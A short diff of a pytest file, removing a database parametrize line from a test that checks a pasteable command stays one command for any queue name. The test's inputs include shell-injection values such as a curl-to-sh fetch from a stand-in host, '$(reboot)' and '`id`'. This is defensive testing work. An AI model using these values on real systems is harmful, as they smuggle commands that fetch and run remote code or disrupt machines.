@@ -154,7 +154,6 @@ class TestReasons:
 
 
 @pytest.mark.fault("F157")
-@pytest.mark.parametrize("on", ["sqlite"], indirect=True)
 @pytest.mark.parametrize("queue", ["x; curl evil.example|sh #", "$(reboot)", "a'b", "-rf", "`id`", "two words"])
 def test_a_command_to_paste_is_one_command_whatever_a_queue_is_called(queue, database, operator):
     with override_settings(TASKS=ANY_QUEUE):
